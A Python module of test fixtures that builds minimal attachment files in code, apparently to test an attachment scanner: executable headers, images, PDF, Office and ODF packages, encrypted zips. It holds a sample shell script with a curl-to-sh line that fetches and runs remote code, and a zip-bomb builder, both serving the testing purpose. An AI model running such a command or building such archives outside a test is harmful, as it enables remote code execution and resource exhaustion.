"""Attachment fixtures built in code: minimal but valid files of each kind."""

from __future__ import annotations

import io
import zipfile

PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode."
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl http://example.com/x | sh\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
    b"\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
CSV = "ФИО;ИНН;Сумма\nИванов И.И.;500100732259;1 200,00\n".encode()


def pdf(text: str) -> bytes:
    """A one-page PDF whose content stream shows ``text`` (ASCII) in Helvetica."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def _zip(members: dict[str, bytes | str], *, encrypted: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    data = buffer.getvalue()
    if encrypted:  # set the "encrypted" flag bit a password-protected zip carries
        data = _set_flag(data, b"PK\x03\x04", 6)
        data = _set_flag(data, b"PK\x01\x02", 8)
    return data


def _set_flag(data: bytes, signature: bytes, offset: int) -> bytes:
    out = bytearray(data)
    at = out.find(signature)
    while at >= 0:
        out[at + offset] |= 0x1
        at = out.find(signature, at + 4)
    return bytes(out)


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docx(*runs: str) -> bytes:
    """A DOCX with one paragraph made of ``runs`` (a number may be split across runs)."""
    body = "".join(f"<w:r><w:t>{run}</w:t></w:r>" for run in runs)
    document = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p>{body}</w:p></w:body></w:document>"
    )
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document})


def xlsx(*cells: str) -> bytes:
    """An XLSX whose first row holds ``cells`` as shared strings."""
    shared = "".join(f"<si><t>{cell}</t></si>" for cell in cells)
    strings = (
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{shared}</sst>'
    )
    row = "".join(f'<c r="{chr(65 + i)}1" t="s"><v>{i}</v></c>' for i in range(len(cells)))
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{row}</row></sheetData></worksheet>'
    )
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "xl/sharedStrings.xml": strings,
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def plain_zip(members: dict[str, bytes | str]) -> bytes:
    return _zip(members)


def encrypted_zip() -> bytes:
    return _zip({"salaries.xlsx": b"\x00" * 64}, encrypted=True)


def zip_bomb(size: int) -> bytes:
    """A small zip that inflates to ``size`` bytes of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.txt", b"0" * size)
    return buffer.getvalue()


# --- Office packages built part by part -----------------------------------------------------
# Real documents are found through their relationships and read by namespace, so these
# builders take the prefix and the part names as parameters: "ns0:" is what ElementTree writes,
# "x:" what the Open XML SDK writes, and a main part may live anywhere _rels/.rels says.

PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
CORE = "http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
DC = "http://purl.org/dc/elements/1.1/"
ODF_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
ODF_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
ODF_STYLE = "urn:oasis:names:tc:opendocument:xmlns:style:1.0"
ODF_MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
DOCUMENT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def qualify(prefix: str, xml: str) -> str:
    """``xml`` written with ``{p}:`` placeholders, given ``prefix`` ("" for no prefix)."""
    return xml.replace("{p}:", f"{prefix}:" if prefix else "")


def xmlns(prefix: str, uri: str) -> str:
    return f'xmlns:{prefix}="{uri}"' if prefix else f'xmlns="{uri}"'


def relationships(*rels: tuple[str, str]) -> str:
    """A .rels part: ``(type, target)`` pairs, the type being the last segment of its URI."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(rels, start=1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELS}">{items}</Relationships>'


def rels_name(part: str) -> str:
    """Where the relationships of ``part`` live (word/_rels/document.xml.rels)."""
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels" if folder else f"_rels/{name}.rels"


def wordml(root: str, body: str, prefix: str = "w", namespace: str = W) -> str:
    """A WordprocessingML part: ``root`` (document, hdr, ftr, footnotes, comments…) holding
    ``body`` written with ``{p}:`` placeholders."""
    inner = f"<{{p}}:body>{body}</{{p}}:body>" if root == "document" else body
    return qualify(prefix, f"<{{p}}:{root} {xmlns(prefix, namespace)}>{inner}</{{p}}:{root}>")


def paragraph(*runs: str) -> str:
    """A paragraph of ``runs``, with ``{p}:`` placeholders for :func:`wordml`."""
    return (
        "<{p}:p>"
        + "".join(f"<{{p}}:r><{{p}}:t>{run}</{{p}}:t></{{p}}:r>" for run in runs)
        + "</{p}:p>"
    )


def core_properties(title: str) -> str:
    return (
        f'<cp:coreProperties xmlns:cp="{CORE}" xmlns:dc="{DC}">'
        f"<dc:title>{title}</dc:title><dc:creator>hgw tests</dc:creator></cp:coreProperties>"
    )


def docx_package(
    document: str,
    *,
    main: str = "word/document.xml",
    related: dict[str, tuple[str, str | bytes]] | None = None,
    core: str | None = None,
    extra: dict[str, str | bytes] | None = None,
) -> bytes:
    """A DOCX whose main part is ``main`` (found through _rels/.rels and an Override, as Word
    finds it). ``related``: part name relative to the main part's folder → (relationship type,
    content). ``core``: docProps/core.xml. ``extra``: parts no relationship names."""
    folder = main.rpartition("/")[0]
    members: dict[str, bytes | str] = {}
    root_rels = [("officeDocument", main)]
    overrides = [(main, DOCUMENT_MAIN)]
    if core is not None:
        members["docProps/core.xml"] = core
        root_rels.append(("metadata/core-properties", "docProps/core.xml"))
    members["_rels/.rels"] = relationships(*root_rels)
    members[main] = document
    if related:
        members[rels_name(main)] = relationships(*((t, n) for n, (t, _) in related.items()))
        for name, (_kind, content) in related.items():
            members[f"{folder}/{name}" if folder else name] = content
    members.update(extra or {})
    members["[Content_Types].xml"] = content_types(overrides)
    return _zip(members)


def content_types(overrides: list[tuple[str, str]]) -> str:
    items = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides
    )
    return (
        '<?xml version="1.0"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="png" ContentType="image/png"/>{items}</Types>'
    )


def xlsx_package(sheets: list[list[list[str]]], shared: list[str], prefix: str = "x") -> bytes:
    """An XLSX with ``sheets`` (rows of cells). A cell "s:N" points to shared string N, "i:text"
    is an inline string, anything else a number. Parts live under names Excel would not pick
    (xl/data/…), named by the workbook's relationships."""

    def cell(value: str) -> str:
        kind, _, body = value.partition(":")
        if kind == "s":
            return f'<{{p}}:c t="s"><{{p}}:v>{body}</{{p}}:v></{{p}}:c>'
        if kind == "i":
            return (
                f'<{{p}}:c t="inlineStr"><{{p}}:is><{{p}}:t>{body}</{{p}}:t></{{p}}:is></{{p}}:c>'
            )
        return f"<{{p}}:c><{{p}}:v>{value}</{{p}}:v></{{p}}:c>"

    ns = xmlns(prefix, S)
    members: dict[str, bytes | str] = {}
    listed = ""
    rels = [("sharedStrings", "data/strings.xml")]
    for n, rows in enumerate(sheets, start=1):
        data = "".join("<{p}:row>" + "".join(cell(v) for v in row) + "</{p}:row>" for row in rows)
        members[f"xl/data/sheet_{n}.xml"] = qualify(
            prefix,
            f"<{{p}}:worksheet {ns}><{{p}}:sheetData>{data}</{{p}}:sheetData></{{p}}:worksheet>",
        )
        rels.append(("worksheet", f"data/sheet_{n}.xml"))
        listed += f'<{{p}}:sheet name="Sheet{n}" sheetId="{n}" r:id="rId{n + 1}"/>'
    items = "".join(f"<{{p}}:si><{{p}}:t>{s}</{{p}}:t></{{p}}:si>" for s in shared)
    members["xl/data/strings.xml"] = qualify(prefix, f"<{{p}}:sst {ns}>{items}</{{p}}:sst>")
    members["xl/book.xml"] = qualify(
        prefix,
        f'<{{p}}:workbook {ns} xmlns:r="{REL}">'
        f"<{{p}}:sheets>{listed}</{{p}}:sheets></{{p}}:workbook>",
    )
    members["xl/_rels/book.xml.rels"] = relationships(*rels)
    members["_rels/.rels"] = relationships(("officeDocument", "xl/book.xml"))
    members["[Content_Types].xml"] = content_types([])
    return _zip(members)


def pptx_package(slide: str, notes: str, prefix: str = "ns1") -> bytes:
    """A PPTX whose one slide says ``slide`` and whose notes slide says ``notes``, DrawingML
    written with ``prefix`` (ElementTree's ns0/ns1 style)."""

    def shape_tree(root: str, text: str) -> str:
        return qualify(
            prefix,
            f'<p:{root} xmlns:p="{P}" {xmlns(prefix, A)}><p:cSld><p:spTree><p:sp><p:txBody>'
            f"<{{p}}:p><{{p}}:r><{{p}}:t>{text}</{{p}}:t></{{p}}:r></{{p}}:p>"
            f"</p:txBody></p:sp></p:spTree></p:cSld></p:{root}>",
        )

    return _zip(
        {
            "[Content_Types].xml": content_types([]),
            "_rels/.rels": relationships(("officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": f'<p:presentation xmlns:p="{P}"/>',
            "ppt/_rels/presentation.xml.rels": relationships(("slide", "deck/one.xml")),
            "ppt/deck/one.xml": shape_tree("sld", slide),
            "ppt/deck/_rels/one.xml.rels": relationships(("notesSlide", "../talk/one.xml")),
            "ppt/talk/one.xml": shape_tree("notes", notes),
        }
    )


def odt_package(body: str, *, header: str = "", title: str = "", prefix: str = "t") -> bytes:
    """An ODT with ``body`` paragraphs (``{p}:`` placeholders for the text namespace), a page
    header in styles.xml and a title in meta.xml."""
    text_ns = xmlns(prefix, ODF_TEXT)
    content = qualify(
        prefix,
        f'<o:document-content xmlns:o="{ODF_OFFICE}" {text_ns}><o:body><o:text>{body}'
        "</o:text></o:body></o:document-content>",
    )
    styles = qualify(
        prefix,
        f'<o:document-styles xmlns:o="{ODF_OFFICE}" xmlns:st="{ODF_STYLE}" {text_ns}>'
        '<o:master-styles><st:master-page st:name="Standard"><st:header>'
        f"<{{p}}:p>{header}</{{p}}:p></st:header></st:master-page></o:master-styles>"
        "</o:document-styles>",
    )
    meta = (
        f'<o:document-meta xmlns:o="{ODF_OFFICE}" xmlns:dc="{DC}"><o:meta>'
        f"<dc:title>{title}</dc:title></o:meta></o:document-meta>"
    )
    manifest = (
        f'<manifest:manifest xmlns:manifest="{ODF_MANIFEST}">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>'
    )
    return _zip(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "styles.xml": styles,
            "meta.xml": meta,
            "META-INF/manifest.xml": manifest,
        }
    )
